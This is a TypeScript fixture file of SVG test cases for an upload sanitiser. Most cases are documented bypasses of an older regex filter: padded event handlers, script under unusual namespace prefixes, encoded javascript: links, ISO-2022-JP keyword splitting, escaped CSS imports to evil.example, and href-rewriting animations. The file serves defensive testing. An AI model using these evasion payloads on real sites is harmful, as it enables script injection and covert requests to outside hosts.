/**
 * SVGs for the judge's tests (src/features/enquiry/files/svg.test.ts in Node, src/features/enquiry/files/svg.worker.test.ts
 * in workerd). Each bypass is a way past the pattern judge the site had before (regexes over
 * overlapping 4 KB windows) that ran script or reached another host when staff opened the file;
 * `oldAccepted` marks those the old judge let through (checked against a copy of it on real R2
 * reads), the rest it refused too, for another reason or the same.
 */

const XLINK = 'http://www.w3.org/1999/xlink';
const XHTML = 'http://www.w3.org/1999/xhtml';
const SVG = 'http://www.w3.org/2000/svg';

/** A whole SVG around `inner`, as the other artwork tests write it. */
export const svgAround = (inner: string, decl = '<?xml version="1.0"?>\n', rootAttributes = '') =>
  `${decl}<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" width="100" height="100"${rootAttributes}>${inner}</svg>\n`;

/** ISO-2022-JP's escape back to ASCII: invisible to a browser reading the file as ISO-2022-JP. */
const ESC = '\u001b(B';
const JIS_ROMAN = '\u001b(J';
const iso2022 = (inner: string) => svgAround(inner, '<?xml version="1.0" encoding="ISO-2022-JP"?>\n');

export interface SvgCase {
  /** What the case is, for the test's name. */
  name: string;
  /** The file, as text (written out as UTF-8) or bytes. */
  file: string | Uint8Array;
  /** What the refusal names: "an SVG with <what> in it", or `malformed` for XML that is not well-formed. */
  what: string;
  /** The old pattern judge took this file. */
  oldAccepted: boolean;
}

const spaces = (n: number, unit = ' ') => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);

/**
 * The file `make` writes, padded (in a comment) so that `word` begins 96 bytes before a multiple
 * of 4,096: local R2 streams an object in 4 KB chunks, and the old judge read each with the 4 KB
 * before it, so text that spans such a seam by more than 4 KB was never in one window.
 */
function atSeam(word: string, make: (pad: string) => string): string {
  const at = make('').indexOf(word);
  return make(' '.repeat((4096 - 96 - (at % 4096) + 4096) % 4096));
}

/** The bypasses of issue 49, each as reported and with variants of our own. */
export const bypasses: SvgCase[] = [
  // 1. An event handler whose `=` comes after more white space than the old window held.
  {
    name: 'onload, 5,000 spaces, then =',
    file: svgAround(`<rect onload${spaces(5000)}="alert(1)" width="1" height="1"/>`),
    what: 'an event handler',
    oldAccepted: false,
  },
  {
    name: 'onload, 5,000 spaces, then =, where a 4 KB read ends',
    file: atSeam('onload', (pad) => svgAround(`<!--${pad}--><rect onload${spaces(5000)}="alert(1)" width="1" height="1"/>`)),
    what: 'an event handler',
    oldAccepted: true,
  },
  {
    name: 'onclick, a megabyte of spaces, then =',
    file: svgAround(`<rect onclick${spaces(1_000_000)}="alert(1)" width="1" height="1"/>`),
    what: 'an event handler',
    oldAccepted: true,
  },
  {
    name: 'onbegin on a group, 300 KB of tabs and line breaks, then =',
    file: svgAround(`<g onbegin${spaces(300_000, '\t\n')}='alert(1)'><rect width="1" height="1"/></g>`),
    what: 'an event handler',
    oldAccepted: true,
  },
  {
    name: 'onload on the root, 300 KB of CR LF, then =',
    file: svgAround('<rect width="1" height="1"/>', '', ` onload${spaces(300_000, '\r\n')}="alert(1)"`),
    what: 'an event handler',
    oldAccepted: true,
  },

  // 2. A script element under a prefix the old patterns did not read as a prefix.
  { name: 'ſ:script bound to XHTML', file: svgAround(`<ſ:script xmlns:ſ="${XHTML}">alert(document.domain)</ſ:script>`), what: 'a script', oldAccepted: true },
  { name: 'é:script bound to SVG', file: svgAround(`<é:script xmlns:é="${SVG}">alert(1)</é:script>`), what: 'a script', oldAccepted: true },
  {
    name: 'Ω:script bound to XHTML, its text in CDATA',
    file: svgAround(`<Ω:script xmlns:Ω="${XHTML}"><![CDATA[alert(1)]]></Ω:script>`),
    what: 'a script',
    oldAccepted: true,
  },
  {
    name: 'ж:iframe bound to XHTML with srcdoc',
    file: svgAround(`<ж:iframe xmlns:ж="${XHTML}" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>`),
    what: "an element a printer's file does not use (<ж:iframe>)",
    oldAccepted: true,
  },

  // 3. javascript: written with numeric character references longer than the old decoder read.
  {
    name: 'ſ:href with &#0000000106;avascript:',
    file: svgAround(`<a xmlns:ſ="${XLINK}" ſ:href="&#0000000106;avascript:alert(1)"><rect width="9" height="9"/></a>`),
    what: 'a javascript: address',
    oldAccepted: true,
  },
  {
    name: 'é:href with a long hex j and a long decimal colon',
    file: svgAround(`<a xmlns:é="${XLINK}" é:href="&#x00000000006a;avascript&#0000000058;alert(1)"><rect width="9" height="9"/></a>`),
    what: 'a javascript: address',
    oldAccepted: true,
  },
  {
    name: 'ł:href with a tab written &#00000000009;',
    file: svgAround(`<a xmlns:ł="${XLINK}" ł:href="java&#00000000009;script:alert(1)"><rect width="9" height="9"/></a>`),
    what: 'a javascript: address',
    oldAccepted: true,
  },

  // 4. Another text encoding, whose escapes split what the old patterns looked for.
  {
    name: 'ISO-2022-JP: onload split by ESC ( B',
    file: iso2022(`<rect on${ESC}load="alert(1)" width="1" height="1"/>`),
    what: 'another text encoding than UTF-8',
    oldAccepted: true,
  },
  {
    name: 'ISO-2022-JP: script split by ESC ( B',
    file: iso2022(`<scr${ESC}ipt>alert(1)</scr${ESC}ipt>`),
    what: 'another text encoding than UTF-8',
    oldAccepted: true,
  },
  {
    name: 'ISO-2022-JP: onclick split by ESC ( J',
    file: iso2022(`<rect on${JIS_ROMAN}click="alert(1)" width="1" height="1"/>`),
    what: 'another text encoding than UTF-8',
    oldAccepted: true,
  },
  {
    name: 'ISO-2022-JP: an animation of hr ESC ( B ef',
    file: iso2022(`<a href="#r"><set attributeName="hr${ESC}ef" to="https://evil.example/" begin="0s"/><rect id="r" width="9" height="9"/></a>`),
    what: 'another text encoding than UTF-8',
    oldAccepted: true,
  },
  {
    name: 'ISO-2022-JP escapes without a declaration',
    file: svgAround(`<rect on${ESC}load="alert(1)" width="1" height="1"/>`),
    what: 'malformed',
    oldAccepted: true,
  },
  {
    name: 'UTF-16 (little-endian, with its byte order mark)',
    file: utf16le(svgAround('<script>alert(1)</script>', '<?xml version="1.0" encoding="UTF-16"?>\n')),
    what: 'another text encoding than UTF-8',
    oldAccepted: false,
  },
  {
    name: 'Latin-1 declared',
    file: svgAround('<rect width="1" height="1"/>', '<?xml version="1.0" encoding="ISO-8859-1"?>\n'),
    what: 'another text encoding than UTF-8',
    oldAccepted: true,
  },

  // 5. CSS that fetches, hidden from the old patterns by escapes, XML references, CDATA and comments.
  {
    name: '@\\69mport in <style>',
    file: svgAround('<style>@\\69mport "https://evil.example/x.css";</style>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: '@\\000069 mport (six digits and a space)',
    file: svgAround("<style>@\\000069 mport 'https://evil.example/x.css';</style>"),
    what: 'an external reference',
    oldAccepted: true,
  },
  { name: '@\\49 MPORT', file: svgAround('<style>@\\49 MPORT "https://evil.example/x.css";</style>'), what: 'an external reference', oldAccepted: true },
  {
    name: 'u\\72l( in a style attribute',
    file: svgAround('<rect style="fill:u\\72l(https://evil.example/p.svg#p)" width="1" height="1"/>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: 'u\\rl( (a letter escaped)',
    file: svgAround('<rect style="fill:u\\rl(https://evil.example/p.svg#p)" width="1" height="1"/>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: 'url&#40; in a fill attribute',
    file: svgAround('<rect fill="url&#40;https://evil.example/p.svg#p)" width="1" height="1"/>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: 'image-set( in a style attribute',
    file: svgAround(`<rect style="mask-image:image-set('https://evil.example/a.png' 1x)" width="1" height="1"/>`),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: '-webkit-image-set( in <style>',
    file: svgAround('<style>rect{mask-image:-webkit-image-set("https://evil.example/a.png" 1x)}</style>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: 'ima\\67 e-set( escaped',
    file: svgAround('<style>rect{mask-image:ima\\67 e-set("https://evil.example/a.png" 1x)}</style>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: '@import split across CDATA sections',
    file: svgAround('<style><![CDATA[@im]]><![CDATA[port "https://evil.example/x.css";]]></style>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: '@import split by an XML comment',
    file: svgAround('<style>@im<!-- a comment -->port "https://evil.example/x.css";</style>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: 'url( split across CDATA sections',
    file: svgAround('<style><![CDATA[rect{fill:ur]]><![CDATA[l(https://evil.example/p.svg#p)}]]></style>'),
    what: 'an external reference',
    oldAccepted: true,
  },

  // 6. An image, a use or a link reaching another host under such a prefix.
  {
    name: '<image ſ:href> to another host',
    file: svgAround(`<image xmlns:ſ="${XLINK}" ſ:href="https://evil.example/pixel.png" width="1" height="1"/>`),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: '<a ж:href> to another host',
    file: svgAround(`<a xmlns:ж="${XLINK}" ж:href="https://evil.example/"><rect width="9" height="9"/></a>`),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: '<use é:href> of another file',
    file: svgAround(`<use xmlns:é="${XLINK}" é:href="https://evil.example/sprite.svg#a"/>`),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: '<feImage ñ:href> to another host',
    file: svgAround(`<filter id="f"><feImage xmlns:ñ="${XLINK}" ñ:href="//evil.example/x.png"/></filter>`),
    what: 'an external reference',
    oldAccepted: true,
  },

  // 7. An animation that rewrites a link after the file was judged.
  {
    name: '<set attributeName="href">',
    file: svgAround('<a href="#r"><set attributeName="href" to="javascript:alert(1)"/><rect id="r" width="9" height="9"/></a>'),
    what: 'an animation (<set>)',
    oldAccepted: false,
  },
  {
    name: '<set attributeName="&#104;ref">',
    file: svgAround('<a href="#r"><set attributeName="&#104;ref" to="https://evil.example/" begin="0s"/><rect id="r" width="9" height="9"/></a>'),
    what: 'an animation (<set>)',
    oldAccepted: true,
  },
  {
    name: '<animate attributeName="ſ:href">',
    file: svgAround(
      `<a href="#r" xmlns:ſ="${XLINK}"><animate attributeName="ſ:href" values="https://evil.example/" begin="0s"/><rect id="r" width="9" height="9"/></a>`,
    ),
    what: 'an animation (<animate>)',
    oldAccepted: true,
  },
  {
    name: '<set attributeName="xlink&#x3a;href">',
    file: svgAround('<a xlink:href="#r"><set attributeName="xlink&#x3a;href" to="https://evil.example/" begin="0s"/><rect id="r" width="9" height="9"/></a>'),
    what: 'an animation (<set>)',
    oldAccepted: true,
  },
];

/** UTF-16LE bytes with their byte order mark. */
export function utf16le(text: string): Uint8Array {
  const out = new Uint8Array(2 + text.length * 2);
  out.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) new DataView(out.buffer).setUint16(2 + i * 2, text.charCodeAt(i), true);
  return out;
}

/** What else the judge refuses, that the old patterns refused too (or never saw as SVG). */
export const otherRefusals: SvgCase[] = [
  { name: 'a script', file: svgAround('<script>alert(document.domain)</script>'), what: 'a script', oldAccepted: false },
  {
    name: 'a foreignObject',
    file: svgAround(`<foreignObject><body xmlns="${XHTML}"><p>x</p></body></foreignObject>`),
    what: 'a foreignObject',
    oldAccepted: false,
  },
  {
    name: 'a DOCTYPE naming the SVG 1.1 DTD',
    file:
      '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' +
      svgAround('<rect width="1" height="1"/>', ''),
    what: 'a DOCTYPE (entities)',
    oldAccepted: true,
  },
  {
    name: 'a DOCTYPE with entities, as old Illustrator wrote',
    file: '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY h "hr">]>\n<svg xmlns="&ns_svg;"><a xlink:href="#x"/></svg>',
    what: 'a DOCTYPE (entities)',
    oldAccepted: false,
  },
  {
    name: 'an xml-stylesheet processing instruction',
    file: `<?xml version="1.0"?>\n<?xml-stylesheet href="https://evil.example/x.css"?>\n${svgAround('', '')}`,
    what: 'a processing instruction (<?xml-stylesheet?>)',
    oldAccepted: false,
  },
  {
    name: 'xml:base pointing elsewhere',
    file: svgAround('<g xml:base="https://evil.example/"><use href="#a"/></g>'),
    what: "an attribute a printer's file does not use (xml:base)",
    oldAccepted: true,
  },
  {
    name: 'an event handler in another namespace',
    file: svgAround('<rect xmlns:e="urn:x" e:onclick="alert(1)" width="1" height="1"/>'),
    what: 'an event handler',
    oldAccepted: true,
  },
  {
    name: 'an <a> to an embedded picture (links stay inside the file)',
    file: svgAround('<a href="data:image/png;base64,iVBORw0KGgo="><rect width="9" height="9"/></a>'),
    what: 'an external reference',
    oldAccepted: true,
  },
  {
    name: 'an SVG picture embedded as data',
    file: svgAround('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>'),
    what: 'an external reference',
    oldAccepted: false,
  },
  { name: 'text after the root element', file: `${svgAround('<rect width="1" height="1"/>')}calc.exe\n`, what: 'malformed', oldAccepted: true },
  { name: 'an unclosed element', file: '<svg xmlns="http://www.w3.org/2000/svg"><g><rect/></svg>', what: 'malformed', oldAccepted: true },
  { name: 'an undefined entity', file: svgAround('<text>&nbsp;</text>'), what: 'malformed', oldAccepted: true },
  { name: 'an unbound prefix', file: svgAround('<x:script>alert(1)</x:script>'), what: 'malformed', oldAccepted: false },
  {
    name: 'invalid UTF-8',
    file: new Uint8Array([...new TextEncoder().encode(svgAround('<text>')).subarray(0, 120), 0xc3, 0x28, ...new TextEncoder().encode('</text></svg>')]),
    what: 'another text encoding than UTF-8',
    oldAccepted: true,
  },
  {
    name: 'a root element without the SVG namespace',
    file: '<svg width="1" height="1"><rect/></svg>',
    what: 'another first element than <svg>',
    oldAccepted: true,
  },
  { name: 'an element inside <style>', file: svgAround('<style>@im<g/>port "x.css";</style>'), what: 'an element inside <style>', oldAccepted: true },
];

/** Files a printer is sent, as design programs write them: each must be taken. */
export const plainSvgs: Array<{ name: string; file: string }> = [
  {
    name: 'a logo with gradients, text, its own symbols, &amp; and an embedded PNG',
    file: svgAround(
      '<defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1"><stop offset="0" stop-color="#c00"/><stop offset="1" style="stop-color:#600;stop-opacity:1"/></linearGradient>' +
        '<radialGradient id="r" cx=".5" cy=".5" r=".5" gradientUnits="objectBoundingBox"><stop offset="0" stop-color="#fff"/></radialGradient>' +
        '<symbol id="leaf" viewBox="0 0 10 10"><path d="M0 0 L10 10 Z" fill="url(#g)"/></symbol>' +
        '<clipPath id="c"><circle cx="50" cy="50" r="40"/></clipPath><filter id="f"><feGaussianBlur stdDeviation="2"/><feOffset dx="1" dy="1" result="o"/><feMerge><feMergeNode in="o"/><feMergeNode in="SourceGraphic"/></feMerge></filter></defs>' +
        '<g clip-path="url(#c)" filter="url( \'#f\' )"><rect fill="url(#g)" width="90" height="90"/><use xlink:href="#leaf" x="10" y="10" width="20" height="20"/><use href="#leaf"/></g>' +
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/><image xlink:href="data:image/jpeg;base64,\n /9j/4AAQ" width="1" height="1"/>' +
        '<text x="5" y="95" font-family="Noto Sans" style="font-weight:bold">Bhaji &amp; Chai <tspan dy="2">Co.</tspan></text><a href="#leaf"><title>Leaf</title><rect width="1" height="1"/></a>',
    ),
  },
  {
    name: 'an Inkscape file with metadata and sodipodi:namedview',
    file:
      '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with Inkscape (http://www.inkscape.org/) -->\n\n' +
      '<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5" inkscape:version="1.2.2 (b0a8486541, 2022-12-01)" sodipodi:docname="label.svg" ' +
      'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
      'xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">\n' +
      '  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" bordercolor="#666666" borderopacity="1.0" inkscape:showpageshadow="2" inkscape:pageopacity="0.0" inkscape:document-units="mm" showgrid="false" inkscape:zoom="0.7" inkscape:current-layer="layer1"><inkscape:page x="0" y="0" width="210" height="297" id="page1"/></sodipodi:namedview>\n' +
      '  <defs id="defs2"><inkscape:perspective sodipodi:type="inkscape:persp3d" inkscape:vp_x="0 : 148.5 : 1" id="perspective1"/><linearGradient inkscape:collect="always" id="linearGradient1"><stop style="stop-color:#000000;stop-opacity:1;" offset="0" id="stop1"/></linearGradient></defs>\n' +
      '  <metadata id="metadata1"><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format><dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/><dc:title>Label</dc:title><cc:license rdf:resource="http://creativecommons.org/licenses/by/4.0/"/></cc:Work></rdf:RDF></metadata>\n' +
      '  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1" transform="translate(-10,-20)">\n' +
      '    <path style="fill:url(#linearGradient1);stroke:#000000;stroke-width:0.264583" d="m 20,30 h 50 v 40 z" id="path1" sodipodi:nodetypes="cccc" inkscape:export-filename="label.png" inkscape:export-xdpi="300"/>\n' +
      '    <text xml:space="preserve" style="font-size:10.5833px;line-height:1.25;font-family:sans-serif" x="30" y="60" id="text1"><tspan sodipodi:role="line" id="tspan1" x="30" y="60">Masala Chai</tspan></text>\n' +
      '    <flowRoot xml:space="preserve" id="flowRoot1"><flowRegion id="flowRegion1"><rect id="rect1" width="50" height="20" x="0" y="0"/></flowRegion><flowPara id="flowPara1">Net wt 250 g</flowPara></flowRoot>\n' +
      '    <image width="20" height="20" preserveAspectRatio="none" xlink:href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\n+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\n" id="image1" x="0" y="0"/>\n' +
      '  </g>\n</svg>\n',
  },
  {
    name: 'an Illustrator export with a style sheet in CDATA and data-name',
    file:
      '<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 27.5.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n' +
      '<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/" x="0px" y="0px" viewBox="0 0 595.3 841.9" style="enable-background:new 0 0 595.3 841.9;" xml:space="preserve" data-name="Layer 1">\n' +
      '<style type="text/css">\n\t.st0{fill:#E30613;}\n\t.st1{fill:url(#SVGID_1_);}\n\t.st2{font-family:\'MyriadPro-Regular\';}\n\t/* Layer colours */\n</style>\n' +
      '<linearGradient id="SVGID_1_" gradientUnits="userSpaceOnUse" x1="0" y1="0" x2="100" y2="0" gradientTransform="matrix(1 0 0 -1 0 100)"><stop offset="0" style="stop-color:#FFFFFF"/><stop offset="1" style="stop-color:#000000"/></linearGradient>\n' +
      '<g i:extraneous="self"><rect x="10" y="10" class="st0" width="100" height="50"/><rect x="10" y="70" class="st1" width="100" height="50"/><text transform="matrix(1 0 0 1 10 150)" class="st2">Spice &amp; Co</text></g>\n' +
      '<switch><g><polygon class="st0" points="0,0 10,0 5,8"/><polyline points="0,0 1,1" fill="none" stroke="#000"/><ellipse cx="5" cy="5" rx="2" ry="1"/><line x1="0" y1="0" x2="1" y2="1" stroke="#000"/></g></switch>\n' +
      '</svg>\n',
  },
  {
    name: 'a CorelDRAW export with a CDATA style sheet',
    file:
      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Creator: CorelDRAW -->\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" xml:space="preserve" width="210mm" height="297mm" version="1.1" style="shape-rendering:geometricPrecision; text-rendering:geometricPrecision; image-rendering:optimizeQuality; fill-rule:evenodd; clip-rule:evenodd" viewBox="0 0 21000 29700" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xodm="http://www.corel.com/coreldraw/odm/2003">\n' +
      ' <defs>\n  <style type="text/css">\n   <![CDATA[\n    .fil0 {fill:#FEFEFE}\n    .fil1 {fill:#2B2A29;fill-rule:nonzero}\n   ]]>\n  </style>\n </defs>\n' +
      ' <g id="Layer_x0020_1">\n  <metadata id="CorelCorpID_0Corel-Layer"/>\n  <rect class="fil0" width="21000" height="29700"/>\n  <path class="fil1" d="M1000 1000l500 0 0 500 -500 0z"/>\n </g>\n</svg>\n',
  },
  {
    name: 'a Figma export with a mask, a filter and a pattern',
    file:
      '<svg width="400" height="300" viewBox="0 0 400 300" fill="none" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n' +
      '<mask id="mask0" style="mask-type:alpha" maskUnits="userSpaceOnUse" x="0" y="0" width="400" height="300"><rect width="400" height="300" fill="#D9D9D9"/></mask>\n' +
      '<g mask="url(#mask0)" filter="url(#filter0_d)"><rect width="400" height="300" fill="url(#pattern0)"/></g>\n' +
      '<defs><filter id="filter0_d" x="-4" y="0" width="408" height="308" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="BackgroundImageFix"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/><feOffset dy="4"/><feGaussianBlur stdDeviation="2"/><feComposite in2="hardAlpha" operator="out"/><feBlend mode="normal" in2="BackgroundImageFix" result="effect1"/></filter>\n' +
      '<pattern id="pattern0" patternContentUnits="objectBoundingBox" width="1" height="1"><use xlink:href="#image0" transform="scale(0.01)"/></pattern>\n' +
      '<image id="image0" width="100" height="100" xlink:href="data:image/webp;base64,UklGRhoAAABXRUJQ"/></defs>\n</svg>\n',
  },
];
